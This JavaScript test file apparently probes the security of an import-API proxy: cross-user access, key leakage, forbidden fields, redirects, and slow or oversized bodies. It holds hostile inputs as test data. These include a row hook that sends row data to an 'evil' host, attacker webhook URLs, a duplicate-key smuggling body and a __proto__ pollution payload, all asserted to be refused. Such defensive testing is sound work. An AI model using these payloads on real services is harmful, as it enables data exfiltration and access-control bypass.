// @ts-check
// The proxy as an attacker meets it: two signed-in users on one proxy against the emulator, each
// trying to reach the other's imports; browsers trying to choose what only the server may
// (hooks, webhook URLs, the owner); an API that echoes the key; and a crowd of large or slow
// bodies trying to exhaust the proxy's memory and connections.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { spawn } from 'node:child_process';
import { startEmulator, loadPackage, installPackage, control, KEY, CONTACTS } from './helpers/env.js';

const EXA_KEY = 'test-exa-key';
const PRODUCTS = '0b8a7d5c-2f6e-4a51-9b3c-5d7e8f9a0b1c';
const CONTACTS_CSV = 'First Name,Last Name,Email Address,Age\nAda,Lovelace,ada@example.com,36\n';
const URLS_CSV = 'url,name\nhttps://a.example,A\n';

/** @type {Awaited<ReturnType<typeof startEmulator>>} */ let emu;
/** @type {any} */ let pkg;

before(async () => {
  [emu, pkg] = await Promise.all([startEmulator(['--time-scale', '0.01']), loadPackage()]);
});
after(async () => emu?.stop());

/** Sessions as an app keeps them: a cookie names the user. */
const SESSIONS = { 's-alice': 'user-alice', 's-bob': 'user-bob' };
/** @param {Request} request */
const authorize = (request) => {
  const sid = /(?:^|;\s*)sid=([^;]+)/.exec(request.headers.get('cookie') ?? '')?.[1];
  return /** @type {Record<string, string>} */ (SESSIONS)[sid ?? ''] ?? null;
};

/**
 * A proxied call as a browser of `who` makes it.
 * @param {(r: Request) => Promise<Response>} handler
 * @param {'alice' | 'bob' | 'nobody'} who
 * @param {string} p
 * @param {{ method?: string, body?: unknown, headers?: Record<string, string> }} [init]
 */
async function as(handler, who, p, init = {}) {
  const headers = { cookie: `sid=s-${who}`, ...(init.body !== undefined ? { 'content-type': 'application/json' } : {}), ...init.headers };
  const body = init.body === undefined ? undefined : typeof init.body === 'string' ? init.body : JSON.stringify(init.body);
  const res = await handler(new Request(`http://app.test${p}`, { method: init.method ?? 'GET', headers, body }));
  const text = await res.text();
  assert.equal(res.headers.get('x-content-type-options'), 'nosniff', `${p}: no nosniff`);
  for (const k of [KEY, EXA_KEY]) assert.ok(!text.includes(k), `${p}: the key reached the browser`);
  let json;
  try {
    json = JSON.parse(text);
  } catch {
    json = undefined;
  }
  return { status: res.status, json, text };
}

/** Polls through the proxy until the import is final. */
async function settle(/** @type {any} */ handler, /** @type {string} */ p, /** @type {(j: any) => boolean} */ done) {
  for (let i = 0; i < 200; i++) {
    const r = await as(handler, 'alice', p);
    if (r.status === 200 && done(r.json)) return r.json;
    await new Promise((res) => setTimeout(res, 20));
  }
  throw new Error(`${p} never settled`);
}

test('a proxy without authorize refuses to start; a request without a session is 401 before anything is sent', async () => {
  assert.throws(() => pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api }), /authorize is required/);
  /** @type {string[]} */
  const sent = [];
  /** @type {typeof fetch} */
  const spy = (url, init) => {
    sent.push(String(url));
    return fetch(url, init);
  };
  const dromo = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, fetch: spy });
  for (const [method, p] of [['GET', '/api/dromo/headless/imports/'], ['POST', '/api/dromo/headless/imports/'], ['GET', '/api/dromo/headless/imports/x/'], ['DELETE', '/api/dromo/headless/imports/x/'], ['GET', '/api/dromo/headless/imports/x/url/']]) {
    const r = await as(dromo, 'nobody', p, { method, ...(method === 'POST' ? { body: { schema_id: CONTACTS, original_filename: 'a.csv' } } : {}) });
    assert.equal(r.status, 401, `${method} ${p}`);
    assert.equal(r.json.code, 'proxy_unauthorized');
  }
  // The app's own refusal passes as it is; a throwing authorize is a 500 that says nothing more.
  const forbid = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, fetch: spy, authorize: () => new Response('{"detail":"not your team"}', { status: 403, headers: { 'x-content-type-options': 'nosniff' } }) });
  const f = await as(forbid, 'alice', '/api/dromo/headless/imports/');
  assert.equal(f.status, 403);
  assert.equal(f.json.detail, 'not your team');
  const broken = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, fetch: spy, authorize: () => { throw new Error(`db down ${KEY}`); } });
  const b = await as(broken, 'alice', '/api/dromo/headless/imports/');
  assert.equal(b.status, 500);
  assert.ok(!b.text.includes('db down'));
  assert.deepEqual(sent, [], 'nothing reached the API');
});

test('Dromo: two users on one proxy each reach only their own imports', { timeout: 30_000 }, async () => {
  const dromo = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize });
  // Alice: a file import (created, uploaded straight to storage) and a rows import.
  const file = await as(dromo, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: { schema_id: CONTACTS, original_filename: 'a.csv' } });
  assert.equal(file.status, 201, file.text);
  const put = await fetch(file.json.upload, { method: 'PUT', body: CONTACTS_CSV });
  assert.equal(put.status, 200);
  const rows = await as(dromo, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: { schema_id: CONTACTS, initial_data: [{ first_name: 'Ada', last_name: 'L', email: 'ada@example.com', age: 36 }] } });
  assert.equal(rows.status, 201, rows.text);
  const bobs = await as(dromo, 'bob', '/api/dromo/headless/imports/', { method: 'POST', body: { schema_id: CONTACTS, original_filename: 'b.csv' } });
  assert.equal(bobs.status, 201);
  const done = await settle(dromo, `/api/dromo/headless/imports/${file.json.id}/`, (j) => j.status === 'SUCCESSFUL');
  assert.equal(done.id, file.json.id);

  // Every cross-user read, result download and delete is refused exactly as a missing import is.
  for (const id of [file.json.id, rows.json.id]) {
    for (const [method, p] of [['GET', `/api/dromo/headless/imports/${id}/`], ['GET', `/api/dromo/headless/imports/${id}/url/`], ['DELETE', `/api/dromo/headless/imports/${id}/`]]) {
      const r = await as(dromo, 'bob', p, { method });
      assert.equal(r.status, 404, `bob ${method} ${p}: ${r.text}`);
      assert.equal(r.json.code, 'proxy_not_found');
    }
  }
  assert.equal((await control(`${emu.control}/dromo/imports/${file.json.id}`)).import.status, 'SUCCESSFUL', "bob's delete did nothing");
  const missing = await as(dromo, 'bob', '/api/dromo/headless/imports/no-such-import/');
  assert.equal(missing.text, (await as(dromo, 'bob', `/api/dromo/headless/imports/${file.json.id}/`)).text, 'another user\'s import looks like a missing one');

  // Alice gets her result URL; lists show each their own, newest first, with a count of their own.
  const url = await as(dromo, 'alice', `/api/dromo/headless/imports/${file.json.id}/url/`);
  assert.equal(url.status, 200, url.text);
  const aliceList = await as(dromo, 'alice', '/api/dromo/headless/imports/?limit=1');
  assert.deepEqual([aliceList.json.count, aliceList.json.results.map((/** @type {any} */ i) => i.id)], [2, [rows.json.id]]);
  assert.match(aliceList.json.next, /offset=1/);
  const page2 = await as(dromo, 'alice', '/api/dromo/headless/imports/?limit=1&offset=1');
  assert.deepEqual(page2.json.results.map((/** @type {any} */ i) => i.id), [file.json.id]);
  const bobList = await as(dromo, 'bob', '/api/dromo/headless/imports/');
  assert.deepEqual(bobList.json.results.map((/** @type {any} */ i) => i.id), [bobs.json.id]);

  // The owner is in Dromo's dashboard (import_metadata.user.id), whatever the browser claimed.
  const claimed = await as(dromo, 'bob', '/api/dromo/headless/imports/', { method: 'POST', body: { schema_id: CONTACTS, original_filename: 'c.csv', import_metadata: { user: { id: 'user-alice', name: 'Alice' } } } });
  assert.equal(claimed.status, 201);
  assert.deepEqual((await control(`${emu.control}/dromo/imports/${claimed.json.id}`)).import_metadata, { user: { id: 'user-bob' } });
  assert.equal((await as(dromo, 'alice', `/api/dromo/headless/imports/${claimed.json.id}/`)).status, 404, 'a claimed owner is not an owner');

  // Alice may delete hers; it is gone from her list.
  assert.equal((await as(dromo, 'alice', `/api/dromo/headless/imports/${rows.json.id}/`, { method: 'DELETE' })).status, 204);
  assert.equal((await as(dromo, 'alice', '/api/dromo/headless/imports/')).json.count, 1);

  // The whole account's list is off unless the server turns it on.
  const account = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, list: 'account' });
  assert.ok((await as(account, 'bob', '/api/dromo/headless/imports/')).json.count >= 3);
  const none = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, list: false });
  assert.equal((await as(none, 'alice', '/api/dromo/headless/imports/')).status, 403);
});

test('Exa: two users, the owner written in the import itself, update and delete scoped, a second instance agrees', { timeout: 30_000 }, async () => {
  const exa = pkg.createProxyHandler({ provider: 'exa', apiKey: EXA_KEY, baseUrl: emu.exa, authorize });
  const params = { size: URLS_CSV.length, count: 1, format: 'csv', entity: { type: 'company' } };
  const mine = await as(exa, 'alice', '/api/exa/v0/imports', { method: 'POST', body: { ...params, metadata: { headlessImportsOwner: 'user-bob', note: 'x' } } });
  assert.equal(mine.status, 201, mine.text);
  assert.deepEqual(mine.json.metadata, { headlessImportsOwner: 'user-alice', note: 'x' }, 'the owner is the proxy\'s to say');
  for (const [method, body] of [['GET', undefined], ['PATCH', { title: 'stolen' }], ['DELETE', undefined]]) {
    const r = await as(exa, 'bob', `/api/exa/v0/imports/${mine.json.id}`, { method, body });
    assert.equal(r.status, 404, `bob ${method}: ${r.text}`);
  }
  // Alice's PATCH cannot remove or change the owner, though Exa replaces metadata wholesale.
  const patched = await as(exa, 'alice', `/api/exa/v0/imports/${mine.json.id}`, { method: 'PATCH', body: { title: 'mine', metadata: { headlessImportsOwner: 'user-bob' } } });
  assert.equal(patched.status, 200, patched.text);
  assert.deepEqual(patched.json.metadata, { headlessImportsOwner: 'user-alice' });

  // Another server instance with an empty store (behind the same load balancer): the owner in the
  // import still decides.
  const other = pkg.createProxyHandler({ provider: 'exa', apiKey: EXA_KEY, baseUrl: emu.exa, authorize });
  assert.equal((await as(other, 'bob', `/api/exa/v0/imports/${mine.json.id}`)).status, 404);
  assert.equal((await as(other, 'alice', `/api/exa/v0/imports/${mine.json.id}`)).json.title, 'mine');
  // Lists are each user's own, by an opaque cursor.
  const second = await as(exa, 'alice', '/api/exa/v0/imports', { method: 'POST', body: params });
  const page = await as(exa, 'alice', '/api/exa/v0/imports?limit=1');
  assert.deepEqual([page.json.data.map((/** @type {any} */ i) => i.id), page.json.hasMore], [[second.json.id], true]);
  const next = await as(exa, 'alice', `/api/exa/v0/imports?limit=1&cursor=${page.json.nextCursor}`);
  assert.deepEqual([next.json.data.map((/** @type {any} */ i) => i.id), next.json.hasMore, next.json.nextCursor], [[mine.json.id], false, null]);
  assert.deepEqual((await as(exa, 'bob', '/api/exa/v0/imports')).json.data, []);
  assert.equal((await as(exa, 'alice', '/api/exa/v0/imports?cursor=not-a-cursor')).status, 400);
  assert.equal((await as(exa, 'alice', `/api/exa/v0/imports/${mine.json.id}`, { method: 'DELETE' })).status, 200);
});

test('the server pins what a browser may create: hooks and webhook URLs are refused, the create option decides the rest', async () => {
  /** @type {any[]} */
  const upstream = [];
  /** @type {typeof fetch} */
  const spy = (url, init) => {
    if (init?.body) upstream.push(JSON.parse(new TextDecoder().decode(/** @type {Uint8Array} */ (init.body))));
    return fetch(url, init);
  };
  const plainProxy = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, fetch: spy });
  const attacks = [
    [{ schema_id: CONTACTS, original_filename: 'a.csv', hooks: { rowHooks: ['fetch("https://evil/"+JSON.stringify(row))'] } }, 'hooks'],
    [{ schema_id: CONTACTS, original_filename: 'a.csv', settings: { webhookUrl: 'https://evil.example/hook' } }, 'settings.webhookUrl'],
    [{ schema_id: CONTACTS, original_filename: 'a.csv', settings: { needsReviewWebhookUrl: 'https://evil.example/hook' } }, 'settings.needsReviewWebhookUrl'],
  ];
  for (const [body, field] of attacks) {
    const r = await as(plainProxy, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body });
    assert.equal(r.status, 403, JSON.stringify(body));
    assert.equal(r.json.code, 'proxy_forbidden_field');
    assert.match(r.json.detail, new RegExp(String(field).replace('.', '\\.')));
  }
  // Smuggling the key twice, so the proxy checks one and the API reads the other: refused. So is
  // a __proto__ key, which would hand values to what the proxy reads through the prototype.
  const dup = await as(plainProxy, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: `{"schema_id":"${CONTACTS}","original_filename":"a.csv","hooks":null,"hooks":{"rowHooks":["x"]}}` });
  assert.equal(dup.status, 400);
  const proto = await as(plainProxy, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: `{"schema_id":"${CONTACTS}","original_filename":"a.csv","__proto__":{"import_metadata":{"user":{"id":"x","name":"CEO"}}}}` });
  assert.equal(proto.status, 400);
  // A cross-site form post, or any body that is not JSON, never gets through.
  for (const type of ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data; boundary=x']) {
    const r = await as(plainProxy, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: '{}', headers: { 'content-type': type } });
    assert.equal(r.status, 415, type);
  }
  assert.deepEqual(upstream, [], 'none of it reached the API');

  // The create option pins the schema and the settings, adds server-side hooks, and refuses rows.
  const pinned = pkg.createProxyHandler({
    provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, fetch: spy,
    create: (/** @type {any} */ params, /** @type {string} */ identity) => {
      if (!params.original_filename) return new Response(JSON.stringify({ detail: 'files only' }), { status: 422, headers: { 'content-type': 'application/json', 'x-content-type-options': 'nosniff' } });
      return { schema_id: CONTACTS, original_filename: params.original_filename, settings: { importIdentifier: `by ${identity}` }, hooks: { rowHooks: ['row'] }, import_metadata: { user: { name: 'Alice A.' } } };
    },
  });
  const made = await as(pinned, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: { schema_id: PRODUCTS, original_filename: 'x.csv', fields: [{ key: 'k', label: 'K', type: 'string' }] } });
  assert.equal(made.status, 201, made.text);
  assert.equal(made.json.schema_id, CONTACTS, 'the server chose the schema');
  const seen = await control(`${emu.control}/dromo/imports/${made.json.id}`);
  assert.equal(seen.settings.importIdentifier, 'by user-alice');
  assert.deepEqual(seen.hooks.rowHooks, ['row']);
  assert.deepEqual(seen.import_metadata, { user: { name: 'Alice A.', id: 'user-alice' } });
  const refused = await as(pinned, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: { schema_id: CONTACTS, initial_data: [{ a: 1 }] } });
  assert.equal(refused.status, 422);
});

test('no import id is lost through the proxy: a cut-off create answer is still recorded, a lost Exa create is taken back', { timeout: 30_000 }, async () => {
  const rules = (/** @type {object[]} */ ...r) => fetch(`${emu.control}/faults`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ seed: 3, rules: r }) });
  try {
    const proxy = await listenProxy(pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize }));
    const exaProxy = await listenProxy(pkg.createProxyHandler({ provider: 'exa', apiKey: EXA_KEY, baseUrl: emu.exa, authorize }));
    const browser = new pkg.Dromo({ baseUrl: `${proxy.url}/api/dromo`, headers: { cookie: 'sid=s-alice' }, maxRetries: 3 });
    // A rows create cut off mid-body: not retried, its id on the error, and reachable by its owner.
    await rules({ route: 'dromo.create', kind: 'truncated_json', count: 1 });
    const err = await browser.importRows([{ first_name: 'A', last_name: 'B', email: 'a@example.com', age: 3 }], { schema_id: CONTACTS }).catch((/** @type {any} */ e) => e);
    assert.equal(err.code, 'invalid_response');
    const seen = await browser.imports.waitForCompletion(err.import.id);
    assert.equal(seen.id, err.import.id, 'the owner reaches the import its cut-off answer named');
    // A file create cut off: the client deletes the one it cannot upload to (through the proxy),
    // then creates again; nothing is left behind.
    const before = (await (await fetch(`${emu.api}/headless/imports/?limit=1`, { headers: { 'X-Dromo-License-Key': KEY } })).json()).count;
    await rules({ route: 'dromo.create', kind: 'truncated_json', count: 1 });
    const made = await browser.imports.create({ schema_id: CONTACTS, original_filename: 'a.csv' });
    const after = (await (await fetch(`${emu.api}/headless/imports/?limit=1`, { headers: { 'X-Dromo-License-Key': KEY } })).json()).count;
    assert.equal(after, before + 1, 'one import: the cut-off one was deleted');
    assert.equal((await browser.imports.retrieve(made.id)).id, made.id);
    // Exa: the connection dies after the import was made. The proxy finds it by the client's
    // token and takes it back; the client's retry makes the one it keeps.
    const exa = new pkg.Exa({ baseUrl: `${exaProxy.url}/api/exa`, headers: { cookie: 'sid=s-alice' }, maxRetries: 3 });
    const list = async () => (await (await fetch(`${emu.exa}/v0/imports?limit=200`, { headers: { 'x-api-key': EXA_KEY } })).json()).data;
    const exaBefore = (await list()).length;
    await rules({ route: 'exa.create', kind: 'reset_after', count: 1 });
    const kept = await exa.imports.create({ size: 10, count: 1, format: 'csv', entity: { type: 'company' } });
    const exaAfter = await list();
    assert.equal(exaAfter.length, exaBefore + 1, 'only the import the caller got exists');
    assert.ok(exaAfter.some((/** @type {any} */ i) => i.id === kept.id));
  } finally {
    await fetch(`${emu.control}/faults`, { method: 'DELETE' });
  }
});

/** A fetch handler served by node:http on loopback (closed after the tests). @param {any} handler */
async function listenProxy(handler) {
  const server = http.createServer((req, res) => void handler.node(req, res));
  await new Promise((r) => server.listen(0, '127.0.0.1', () => r(undefined)));
  after(() => new Promise((r) => { server.closeAllConnections(); server.close(() => r(undefined)); }));
  return { url: `http://127.0.0.1:${/** @type {any} */ (server.address()).port}` };
}

test('rows pass through unparsed and unchanged, a key the API echoes is scrubbed, redirects are refused', async () => {
  const echo = http.createServer((req, res) => {
    const chunks = /** @type {Buffer[]} */ ([]);
    req.on('data', (c) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString();
      if (req.url?.includes('redirect')) return void res.writeHead(302, { location: 'http://127.0.0.1:1/steal' }).end();
      res.writeHead(req.method === 'POST' ? 201 : 200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ id: 'imp-1', key: req.headers['x-dromo-license-key'], body }));
    });
  });
  await new Promise((r) => echo.listen(0, '127.0.0.1', () => r(undefined)));
  const base = `http://127.0.0.1:${/** @type {any} */ (echo.address()).port}/api/v1`;
  try {
    const dromo = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: base, authorize });
    // Rows with the characters a naive splitter trips on, as the browser serialised them.
    const rows = '[{"a":"}\\"],{","b":"\\u00e9\\ud83d\\ude00"},{"c":[1,{"d":"]"}]}]';
    const text = `{"schema_id":"${CONTACTS}",  "initial_data" : ${rows}}`;
    const r = await as(dromo, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: text });
    assert.equal(r.status, 201, r.text);
    assert.equal(r.json.key, '***', 'the echoed key was scrubbed');
    const sent = JSON.parse(r.json.body);
    assert.equal(JSON.stringify(sent.initial_data), JSON.stringify(JSON.parse(rows)));
    assert.ok(r.json.body.endsWith(`"initial_data":${rows}}`), 'the rows bytes are the browser\'s own');
    assert.deepEqual(sent.import_metadata, { user: { id: 'user-alice' } });
    const back = await as(dromo, 'alice', '/api/dromo/headless/imports/imp-1/');
    assert.equal(back.status, 200);
    const redirected = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: `${base}/redirect`, authorize, list: 'account' });
    const red = await as(redirected, 'alice', '/api/dromo/headless/imports/');
    assert.equal(red.status, 502);
    assert.equal(red.json.code, 'proxy_upstream_redirect');
  } finally {
    echo.closeAllConnections();
    await new Promise((r) => echo.close(() => r(undefined)));
  }
});

test('a slow body is cut off (408) and frees its share; slow bodies hold only what they sent, and one caller at most two', async () => {
  const dromo = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, bodyTimeoutMs: 200, maxBytesInFlight: 2 * 1024 * 1024 });
  /** A body that sends a byte and then nothing. */
  const slow = () => new ReadableStream({
    start(c) {
      c.enqueue(new TextEncoder().encode('{'));
    },
  });
  const res = await dromo(new Request('http://app.test/api/dromo/headless/imports/', {
    method: 'POST', headers: { cookie: 'sid=s-alice', 'content-type': 'application/json', 'content-length': '400000' }, body: slow(), duplex: 'half',
  }));
  assert.equal(res.status, 408);
  assert.equal((await res.json()).code, 'proxy_body_timeout');
  // Alice's two bodies that trickle in hold at most half the budget, however large they claim to
  // be: bob's 300 kB body (0.9 MB charged) still goes through while they hang.
  const hanging = [['content-length', '300000'], ['x-unknown-length', '1']].map((h) => dromo(new Request('http://app.test/api/dromo/headless/imports/', {
    method: 'POST', headers: { cookie: 'sid=s-alice', 'content-type': 'application/json', [h[0]]: h[1] }, body: slow(), duplex: 'half',
  })));
  await new Promise((r) => setTimeout(r, 20));
  // A third body of the same caller waits its turn (429, which the clients retry).
  const third = await as(dromo, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: { schema_id: CONTACTS, original_filename: 'a.csv' } });
  assert.equal(third.status, 429);
  assert.equal(third.json.code, 'proxy_busy');
  const body = JSON.stringify({ schema_id: CONTACTS, original_filename: 'a.csv', settings: { title: 'x'.repeat(300_000) } });
  const ok = await as(dromo, 'bob', '/api/dromo/headless/imports/', { method: 'POST', body, headers: { 'content-length': String(body.length) } });
  assert.equal(ok.status, 201, ok.text);
  for (const r of await Promise.all(hanging)) assert.equal(r.status, 408);
});

test('one caller cannot spend the account\'s create limit; refusals that reached nothing say so (x-should-retry)', async () => {
  const dromo = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, createsPerCaller: { creates: 3, windowMs: 60_000 } });
  const make = (/** @type {'alice' | 'bob'} */ who) => dromo(new Request('http://app.test/api/dromo/headless/imports/', {
    method: 'POST', headers: { cookie: `sid=s-${who}`, 'content-type': 'application/json' }, body: JSON.stringify({ schema_id: CONTACTS, original_filename: 'a.csv' }),
  }));
  for (let i = 0; i < 3; i++) assert.equal((await make('alice')).status, 201);
  const fourth = await make('alice');
  assert.equal(fourth.status, 429);
  assert.equal(fourth.headers.get('x-should-retry'), 'true');
  assert.ok(Number(fourth.headers.get('retry-after')) >= 1);
  assert.equal((await make('bob')).status, 201, 'another caller still creates');
});

test('40 concurrent 15 MiB bodies: peak memory stays within the in-flight cap plus a small constant; the rest wait with 503', { timeout: 120_000 }, async () => {
  const CAP = 64 * 1024 * 1024;
  const BODY = 15 * 1024 * 1024;
  // Upstream: a sink that answers 201 after reading the body (the emulator would refuse 15 MiB of
  // junk rows, and its memory is not what this measures).
  const sink = http.createServer((req, res) => {
    req.resume();
    req.on('end', () => setTimeout(() => res.writeHead(201, { 'content-type': 'application/json' }).end('{"id":"x"}'), 50));
  });
  await new Promise((r) => sink.listen(0, '127.0.0.1', () => r(undefined)));
  const upstream = `http://127.0.0.1:${/** @type {any} */ (sink.address()).port}/api/v1`;
  // The proxy runs in a child process of its own, so its RSS is all this measures.
  const script = `
    import http from 'node:http';
    import { createProxyHandler } from 'headless-imports';
    // Each request its own caller: the shared budget is what this measures, not one caller's share.
    const proxy = createProxyHandler({ provider: 'dromo', apiKey: 'k', baseUrl: ${JSON.stringify(upstream)}, authorize: (r) => r.headers.get('x-user'), maxBytesInFlight: ${CAP}, createsPerCaller: false });
    const server = http.createServer((req, res) => void proxy.node(req, res));
    server.listen(0, '127.0.0.1', () => process.send({ port: server.address().port }));
    let peak = 0;
    const sample = setInterval(() => { peak = Math.max(peak, process.memoryUsage.rss()); }, 5);
    process.on('message', (m) => {
      if (m === 'base') { globalThis.gc?.(); process.send({ base: process.memoryUsage.rss() }); peak = 0; }
      if (m === 'peak') { clearInterval(sample); process.send({ peak }); server.close(); server.closeAllConnections(); }
    });
  `;
  const dir = installPackage();
  const child = spawn(process.execPath, ['--expose-gc', '--input-type=module', '-e', script], { cwd: dir, stdio: ['ignore', 'inherit', 'inherit', 'ipc'] });
  const next = () => new Promise((resolve) => child.once('message', resolve));
  try {
    const { port } = /** @type {any} */ (await next());
    // Warm up: one small request through every code path.
    await post(port, Buffer.from(JSON.stringify({ schema_id: 'x', original_filename: 'a.csv' })));
    child.send('base');
    const { base } = /** @type {any} */ (await next());
    const rows = Buffer.alloc(BODY - 64, 0x20);
    const body = Buffer.concat([Buffer.from('{"schema_id":"x","initial_data":['), rows.subarray(0, BODY - 64 - 34 - 3), Buffer.from('{}]}')]);
    const results = await Promise.all(Array.from({ length: 40 }, () => post(port, body)));
    child.send('peak');
    const { peak } = /** @type {any} */ (await next());
    const statuses = results.map((r) => r.status);
    const created = statuses.filter((s) => s === 201).length;
    // Refused bodies are answered 503 before they are read, and the connection closed; a client
    // still writing may see the close first (status 0 here).
    const busy = results.filter((r) => r.status === 503 || r.status === 0);
    const growth = peak - base;
    console.log(`40 x 15 MiB: ${created} relayed, ${busy.length} told to retry (503); proxy RSS ${(base / 2 ** 20).toFixed(0)} MiB -> peak ${(peak / 2 ** 20).toFixed(0)} MiB (+${(growth / 2 ** 20).toFixed(1)} MiB, cap ${CAP / 2 ** 20} MiB)`);
    assert.ok(created >= 1, `some bodies got through: ${statuses.join(',')}`);
    assert.equal(created + busy.length, 40, `every body was relayed or refused: ${statuses.join(',')}`);
    assert.ok(results.some((r) => r.status === 503), 'some were answered 503');
    for (const b of busy) if (b.status === 503) assert.equal(b.retryAfter, '1');
    assert.ok(growth < CAP + 32 * 1024 * 1024, `peak RSS growth ${(growth / 2 ** 20).toFixed(1)} MiB`);
  } finally {
    child.kill();
    sink.closeAllConnections();
    sink.close();
  }
});

let posts = 0;
/** A raw POST to the proxy child, as a caller of its own. @param {number} port @param {Buffer} body */
function post(port, body) {
  return new Promise((resolve) => {
    const headers = { 'content-type': 'application/json', 'content-length': body.length, 'x-user': `user-${posts++}` };
    const req = http.request({ host: '127.0.0.1', port, method: 'POST', path: '/api/dromo/headless/imports/', headers }, (res) => {
      res.resume();
      res.on('end', () => resolve({ status: res.statusCode, retryAfter: res.headers['retry-after'] }));
    });
    // A refused body is answered before it is read and the connection closed: that is fine.
    req.on('error', () => resolve({ status: 0 }));
    req.end(body);
  });
}

